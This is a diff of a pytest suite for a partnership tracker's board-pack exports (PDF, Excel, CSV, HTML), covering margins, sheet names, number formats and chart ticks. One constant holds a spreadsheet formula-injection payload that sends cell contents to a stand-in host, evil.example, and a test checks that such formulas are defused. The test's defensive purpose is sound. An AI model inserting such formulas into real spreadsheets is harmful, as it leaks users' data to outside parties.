@@ -1,18 +1,23 @@
 """The board pack: what a board member opens.
 
-The PDF has its pages, its headings as bookmarks and the exception report's actions; the
-workbook loads, has a sheet per priority and the dashboard's figures, with every status a
-word in a filled cell; the CSV has one row per action; the HTML is one standalone printable
-document; text that a spreadsheet would run as a formula is made harmless; and the command
-line writes the file, or says why not and writes nothing.
+The PDF has its pages, its headings as bookmarks and the exception report's actions, and
+nothing on its pages runs past the margins; the workbook loads, has a sheet per priority
+(named in full, within Excel's limit) and the dashboard's figures, with every status a word
+in a filled cell, every number a number and an autofilter on every table; the CSV has one
+row per action; the HTML is one standalone printable document whose KPI charts have a few
+round ticks on each axis; text that a spreadsheet would run as a formula is made harmless;
+and the command line writes the file, or says why not and writes nothing.
 """
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
+import math
 import re
 import shutil
+import xml.etree.ElementTree as ET
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -20,22 +25,27 @@ from typing import Any
 import openpyxl
 import pytest
 from flask import Flask
+from markupsafe import escape
 from pypdf import PdfReader
 from sqlalchemy import update
 
 from tests.conftest import _make_app
 from tests.tracker.helpers import TODAY, db, pin_today
 from tracker.db import get_engine, get_session
-from tracker.models import ActionUpdate
+from tracker.models import Action, ActionUpdate
 from tracker.reports import dashboard
 from tracker.reports.pack import FORMATS, NO_FILTERS, Pack, render
-from tracker.reports.pack_xlsx import FILLS, SheetNames, cell_text
+from tracker.reports.pack_xlsx import FILLS, SheetNames, cell_text, kpi_number
 from tracker.services.plan_load import current_plan
 
 SLUG, LABEL = "2025-26-Q2", "2025/26 Q2"
 FILENAME = "safer-kingston-partnership-board-pack-2025-26-Q2"
 WORDS = set(dashboard.WORDS.values())
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+PRIORITY_SHEETS = ["P1 Safe communities", "P2 Serious violence", "P3 Ending VAWG",
+                   "P4 Thriving neighbourhoods"]
+"""Kingston's priorities' sheets: ref and short title, "Serious violence and exploitation"
+cut at a word to fit Excel's 31 characters."""
 
 
 @pytest.fixture
@@ -126,6 +136,70 @@ def test_the_pdf_from_the_command_line_has_its_headings_pages_and_exceptions(
     assert reader.metadata.title == f"Safer Kingston Partnership board pack: {LABEL}"
 
 
+def past_the_margins(document: str) -> tuple[int, list[str]]:
+    """Lay ``document`` out on its pages as the PDF is (WeasyPrint) and walk every box of
+    every page: its pages, and each box that reaches past the page's content area (inside
+    the margins), by page, element, class and how far, in CSS pixels."""
+    from weasyprint import HTML
+    from weasyprint.formatting_structure import boxes
+
+    rendered = HTML(string=document).render()
+    found = []
+    for number, page in enumerate(rendered.pages, start=1):
+        area = page._page_box  # the laid-out page: its content box is the area inside margins
+        left, top = area.content_box_x(), area.content_box_y()
+        right, bottom = left + area.width, top + area.height
+        stack = list(area.children)
+        while stack:
+            box = stack.pop()
+            if isinstance(box, boxes.MarginBox):  # the running header and footer
+                continue
+            stack.extend(getattr(box, "children", ()))
+            x, y = box.border_box_x(), box.border_box_y()
+            over = max(left - x, x + box.border_width() - right,
+                       top - y, y + box.border_height() - bottom)
+            if over > 0.5:
+                element = box.element_tag or type(box).__name__
+                classes = box.element.get("class", "") if box.element is not None else ""
+                text = getattr(box, "text", "")[:30]
+                found.append(f"page {number}: <{element} class={classes!r}> {text!r} "
+                             f"{over:.0f}px past")
+    return len(rendered.pages), found
+
+
+LONG_URL = ("https://www.kingston.gov.uk/community-safety/partnership/evidence/"
+            "strategic-assessment-2025-annex-c-data-tables-and-methodology-notes.xlsx")
+LONG_WORD = "Supercalifragilistic" * 8
+
+
+def test_nothing_in_the_pdf_runs_past_the_margins(demo_app: Flask) -> None:
+    # the widest things a pack holds: an address and a word that cannot break, in an
+    # update's narrative, corrective action and concern, and in an action's title
+    _, board_view = board(demo_app, "csv")
+    target = next(r for _, rows in board_view.exceptions() for r in rows if r.update)
+    with db(demo_app) as s:
+        s.execute(update(ActionUpdate).where(ActionUpdate.action_id == target.id,
+                                             ActionUpdate.quarter == LABEL)
+                  .values(narrative=f"See {LONG_URL} for the figures.",
+                          corrective_action=LONG_WORD, concern_reason=LONG_WORD))
+        s.execute(update(Action).where(Action.id == target.id)
+                  .values(title=f"Review {LONG_WORD} and {LONG_URL}"))
+        s.commit()
+    pack, _ = board(demo_app, "html")
+    document = pack.content.decode("utf-8")
+    assert LONG_URL in document and LONG_WORD in document
+    pages, overflows = past_the_margins(document)
+    assert pages > 10
+    assert overflows == []
+
+    # the check itself finds what runs past: a box too wide, and a word too long
+    _, found = past_the_margins(
+        "<style>@page { size: A4; margin: 20mm } .wide { width: 200mm }</style>"
+        f'<div class="wide">A box</div><p>{LONG_WORD}</p>')
+    assert len(found) >= 2 and any("'wide'" in f for f in found), found
+    assert any(LONG_WORD[:30] in f for f in found), found
+
+
 def test_a_pack_is_named_for_the_partnership_and_quarter(demo_app: Flask) -> None:
     pack, _ = board(demo_app, "csv")
     assert pack.filename == f"{FILENAME}.csv"
@@ -141,9 +215,10 @@ def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
     pack, board_view = board(demo_app, "xlsx")
     assert pack.filename == f"{FILENAME}.xlsx"
     book = openpyxl.load_workbook(io.BytesIO(pack.content))
-    priority_sheets = [f"{p.ref} {p.title}"[:31] for p in board_view.priorities]
+    priority_sheets = PRIORITY_SHEETS
+    assert [p.ref for p in board_view.priorities] == ["1", "2", "3", "4"]
     assert book.sheetnames == ["Summary", "Exceptions", *priority_sheets, "Commitments",
-                               "KPIs", "Escalations", "Trend"]
+                               "KPIs", "Escalations", "Trend", "Commentary"]
     assert pack.summary == f"XLSX, {len(book.sheetnames)} sheets"
 
     summary = book["Summary"]
@@ -163,18 +238,25 @@ def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
     assert totals[3:9] == [*(board_view.action_counts[c] for c in dashboard.COLOURS),
                            len(board_view.actions)]
 
+    with demo_app.app_context():
+        plan = current_plan(get_session())
+        assert plan is not None
+        full_titles = {p.id: p.title for p in plan.priorities}
     for p, name in zip(board_view.priorities, priority_sheets, strict=True):
         sheet = book[name]
-        assert sheet.freeze_panes == "A2"
-        heads = [c.value for c in sheet[1]]
+        # the sheet's name is short; its first row has the priority's full title
+        assert sheet["A1"].value == f"Priority {p.ref}: {full_titles[p.ref]}"
+        assert sheet["A1"].font.b
+        assert sheet.freeze_panes == "A3"
+        heads = [c.value for c in sheet[2]]
         assert heads[:7] == ["Ref", "Title", "Commitment", "Owner", "Lead agency", "Group",
                              "Status"]
-        assert all(c.font.b for c in sheet[1])
+        assert all(c.font.b for c in sheet[2])
         assert sheet.column_dimensions["B"].width and sheet.column_dimensions["B"].width > 30
-        refs = [row[0].value for row in sheet.iter_rows(min_row=2)]
+        refs = [row[0].value for row in sheet.iter_rows(min_row=3)]
         assert refs == [r.ref for r in p.actions]
         status = heads.index("Status") + 1
-        for n, action in enumerate(p.actions, start=2):
+        for n, action in enumerate(p.actions, start=3):
             cell = sheet.cell(n, status)
             assert cell.value == action.word
             assert cell.fill.fill_type == "solid"
@@ -182,7 +264,7 @@ def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
     # a Red one, to be sure colours are not all the same
     red = next(r for p in board_view.priorities for r in p.actions if r.colour == "red")
     sheet = book[priority_sheets[[p.ref for p in board_view.priorities].index(red.priority_ref)]]
-    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == red.ref)
+    row = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == red.ref)
     assert row[6].value == "Red" and row[6].fill.fgColor.rgb[-6:] == "D4351C"
 
     exceptions = book["Exceptions"]
@@ -198,6 +280,105 @@ def test_the_workbook_matches_the_dashboard(demo_app: Flask) -> None:
     assert escalations.max_row - 1 == len(board_view.open_escalations)
 
 
+def header_row(sheet: Any) -> int:
+    """The row of a table sheet's headers: 2 on a priority's sheet (its title is row 1),
+    else 1."""
+    return 2 if sheet["A1"].value and str(sheet["A1"].value).startswith("Priority ") else 1
+
+
+def test_the_workbook_holds_numbers_as_numbers_and_filters_every_table(
+        demo_app: Flask) -> None:
+    pack, board_view = board(demo_app, "xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(pack.content))
+
+    # every sheet that is one table has an autofilter over its header row and every row
+    for sheet in book.worksheets:
+        if sheet.title == "Summary":  # several small tables: no filter sweeping them up
+            assert not sheet.auto_filter.ref
+            continue
+        head = header_row(sheet)
+        last = openpyxl.utils.get_column_letter(sheet.max_column)
+        assert sheet.auto_filter.ref == f"A{head}:{last}{max(sheet.max_row, head)}", sheet.title
+
+    # the KPIs: values and targets are numbers, in their unit's format
+    kpis = book["KPIs"]
+    heads = [c.value for c in kpis[1]]
+    assert heads[3:6] == ["Latest value", "Target", "Unit"]
+    with demo_app.app_context():
+        plan = current_plan(get_session())
+        assert plan is not None
+        units = {k.id: k.unit for k in plan.kpis}
+    rows = {row[0].value: row for row in kpis.iter_rows(min_row=2)}
+    seen_units = set()
+    for k in board_view.kpis:
+        value, target, unit = rows[k.ref][3], rows[k.ref][4], rows[k.ref][5]
+        assert unit.value in ("Number", "Percent", "Rate", "Days", "Score", "Pounds (£)")
+        for cell, text in ((value, k.value), (target, k.target)):
+            if text in ("No data", "No target"):
+                assert cell.value is None
+                continue
+            assert isinstance(cell.value, int | float) and cell.data_type == "n", (k.ref, text)
+            shown = float(re.sub(r"[,%£]|\s*days?$", "", text))
+            if units[k.ref] == "percent":
+                assert cell.number_format in ("0%", "0.0%")
+                assert cell.value * 100 == pytest.approx(shown, abs=0.051), (k.ref, text)
+            else:
+                assert cell.number_format in ("#,##0", "#,##0.0", '"£"#,##0', '"£"#,##0.00')
+                assert cell.value == pytest.approx(shown, abs=0.051), (k.ref, text)
+        seen_units.add(units[k.ref])
+    assert {"count", "percent"} <= seen_units
+
+    # counts and percentages elsewhere are numbers too, never text that looks like one
+    looks_numeric = re.compile(r"[-+]?[\d,]+(\.\d+)?%?")
+    for sheet in book.worksheets:
+        head = 5 if sheet.title == "Summary" else header_row(sheet)
+        names = [c.value for c in sheet[head]]
+        for row in sheet.iter_rows(min_row=head + 1):
+            for cell, name in zip(row, names, strict=False):
+                if cell.column == 1 or name in ("Ref", "Commitment", "Part of", "Priorities"):
+                    continue  # refs: identifiers ("1", "2.c"), kept as written
+                if isinstance(cell.value, str):
+                    assert not looks_numeric.fullmatch(cell.value), (sheet.title, name,
+                                                                     cell.value)
+                elif isinstance(cell.value, int | float):
+                    assert cell.number_format != "General" or isinstance(cell.value, float), (
+                        sheet.title, name, cell.value)
+    summary = book["Summary"]
+    total = next(row for row in summary.iter_rows() if row[0].value == "All")
+    assert total[8].value == len(board_view.actions) and total[8].number_format == "#,##0"
+
+    # % complete: Excel's percentages (0.45 shown as 45%)
+    sheet = book[PRIORITY_SHEETS[0]]
+    heads = [c.value for c in sheet[2]]
+    done = heads.index("% complete")
+    by_ref = {a.ref: a for a in board_view.priorities[0].actions}
+    checked = 0
+    for row in sheet.iter_rows(min_row=3):
+        action = by_ref[row[0].value]
+        if action.update is None:
+            assert row[done].value is None
+            continue
+        assert row[done].value == pytest.approx(action.update.percent_complete / 100)
+        assert row[done].number_format == "0%"
+        checked += 1
+    assert checked
+
+
+@pytest.mark.parametrize(("unit", "value", "stored", "number_format"), [
+    ("count", 1420, 1420, "#,##0"),
+    ("count", 12.5, 12.5, "#,##0.0"),
+    ("percent", 71, 0.71, "0%"),
+    ("percent", 36.2, 0.362, "0.0%"),
+    ("currency", 12500, 12500, '"£"#,##0'),
+    ("currency", 12.75, 12.75, '"£"#,##0.00'),
+    ("days", 12, 12, "#,##0"),
+    ("rate", 118.4, 118.4, "#,##0.0"),
+])
+def test_a_kpi_value_in_its_unit(unit: str, value: float, stored: float,
+                                 number_format: str) -> None:
+    assert kpi_number(unit, value) == (stored, number_format)
+
+
 def test_sheet_names_are_ones_excel_accepts() -> None:
     names = SheetNames()
     first = names("3 Crime/ASB: [hot]spots*? and more words to cut short")
@@ -208,6 +389,25 @@ def test_sheet_names_are_ones_excel_accepts() -> None:
     assert names("summary") == "summary" and names("Summary") == "Summary (2)"
     assert names("History") == "History (1)"
     assert names("''") == "Sheet"
+
+
+def test_long_sheet_names_are_cut_at_a_word_and_stay_unique() -> None:
+    names = SheetNames()
+    assert names("P2 Serious violence and exploitation") == "P2 Serious violence"
+    assert names("P2 Serious violence and exploitation") == "P2 Serious violence (2)"
+    assert names("P1 Safe communities") == "P1 Safe communities"  # fits: as it is
+    # never ending on a word that leaves it dangling
+    assert names("P5 Reducing reoffending through the work of the probation service") == (
+        "P5 Reducing reoffending")
+    # a single word too long for the limit is the only thing cut inside a word
+    assert names("P6 " + "x" * 40) == "P6"
+    assert names("y" * 40) == "y" * 31
+    assert names("P7 Neighbourhoods where everyone feels safe and welcome") == (
+        "P7 Neighbourhoods where")
+    for n in range(2, 12):
+        name = names("P7 Neighbourhoods where everyone feels safe and welcome")
+        assert len(name) <= 31 and name.startswith("P7 Neighbourhoods where"), name
+        assert name.endswith(f"({n})"), name
 
 
 # -- CSV ----------------------------------------------------------------------------------------
@@ -268,6 +468,57 @@ def test_the_html_is_one_standalone_printable_document(demo_app: Flask) -> None:
     assert "described in words below it" in charts[0]
 
 
+def chart_ticks(svg: bytes) -> tuple[list[tuple[float, str]], list[float], float]:
+    """A pack chart's time labels (where each is centred, and its lines joined by a space),
+    its value ticks, and its width."""
+    ns = "{http://www.w3.org/2000/svg}"
+    root = ET.fromstring(svg)
+    values: list[float] = []
+    periods: dict[float, list[str]] = {}
+    for text in root.iter(f"{ns}text"):
+        for span in text.iter(f"{ns}tspan"):
+            if text.get("text-anchor") == "end":
+                label = (span.text or "").replace(",", "").replace("%", "")
+                values.append(float(label.replace("\u00a3", "").replace("\u2212", "-")))
+            else:
+                periods.setdefault(float(span.get("x", "0")), []).append(span.text or "")
+    width = float(root.get("viewBox", "0 0 0 0").split()[2])
+    return [(x, " ".join(lines)) for x, lines in periods.items()], values, width
+
+
+def test_the_kpi_charts_have_a_few_round_ticks_on_each_axis(demo_app: Flask) -> None:
+    pack, board_view = board(demo_app, "html")
+    uris = re.findall(r'<img class="kpi-chart" src="data:image/svg\+xml;base64,([^"]+)"',
+                      pack.content.decode("utf-8"))
+    assert len(uris) == len(board_view.kpis) > 0
+    for uri, kpi in zip(uris, board_view.kpis, strict=True):
+        svg = base64.b64decode(uri)
+        assert f"<title>Chart of {escape(kpi.name)}</title>".encode() in svg
+        if kpi.value == "No data":
+            continue
+        labelled, ys, width = chart_ticks(svg)
+        xs = [label for _, label in labelled]
+        # periods: quarters (Q2 over 2025/26) or years, 4 to 7 evenly spread, or every
+        # one when there are fewer (an annual KPI's three years so far)
+        assert all(re.fullmatch(r"(Q[1-4] )?\d{4}/\d{2}", x) for x in xs), (kpi.ref, xs)
+        counted = [int(x[-7:-3]) * 4 + (int(x[1]) - 1 if x.startswith("Q") else 0) for x in xs]
+        gaps = {b - a for a, b in zip(counted, counted[1:], strict=False)}
+        assert len(gaps) == 1, (kpi.ref, xs)
+        assert 4 <= len(xs) <= 7 or gaps == {4 if xs[0][0] != "Q" else 1}, (kpi.ref, xs)
+        # set side by side without touching, and on the chart
+        centres = [x for x, _ in labelled]
+        widest = 6 * max(len(part) for label in xs for part in label.split())
+        assert all(b - a > widest for a, b in zip(centres, centres[1:], strict=False)), (
+            kpi.ref, centres)
+        assert centres[0] - widest / 2 > 0 and centres[-1] + widest / 2 < width
+        # values: 4 to 7 round numbers, evenly spaced, the axis ending on them
+        assert 4 <= len(ys) <= 7, (kpi.ref, ys)
+        steps = {round(b - a, 9) for a, b in zip(ys, ys[1:], strict=False)}
+        assert len(steps) == 1, (kpi.ref, ys)
+        step = steps.pop()
+        assert round(step / 10 ** math.floor(math.log10(step)), 9) in (1, 2, 2.5, 5), ys
+
+
 # -- formula injection ----------------------------------------------------------------------
 
 
@@ -298,9 +549,9 @@ def test_a_formula_typed_in_an_update_is_harmless_in_the_csv_and_the_workbook(
 
     pack, _ = board(kingston_app, "xlsx")
     book = openpyxl.load_workbook(io.BytesIO(pack.content))
-    sheet = next(book[n] for n in book.sheetnames if n.startswith(f"{target.priority_ref} "))
-    heads = [c.value for c in sheet[1]]
-    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == target.ref)
+    sheet = next(book[n] for n in book.sheetnames if n.startswith(f"P{target.priority_ref} "))
+    heads = [c.value for c in sheet[2]]
+    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == target.ref)
     narrative = row[heads.index("Narrative")]
     assert narrative.value == "'" + EVIL and narrative.data_type == "s"
     assert row[heads.index("Corrective action")].value.startswith("'@SUM")
